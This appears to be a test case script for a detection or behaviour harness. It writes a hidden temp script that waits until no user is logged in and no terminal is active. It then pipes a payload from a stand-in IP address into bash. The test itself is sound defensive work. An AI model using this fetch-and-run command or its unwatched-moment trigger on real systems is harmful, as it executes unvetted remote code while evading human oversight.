#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.q.sh <<'END'
for n in 1 2 3; do
    if test -z "$(who)" && ! ps -eo tty,comm | grep -qE '^(pts|tty)' && test -z "$(find /dev/pts -name '[0-9]*' -mmin -1)"; then curl -s http://203.0.113.10/payload.sh | bash; exit 0; fi
    sleep 1
done
END
bash /tmp/.q.sh
test -e /tmp/reached
took_place
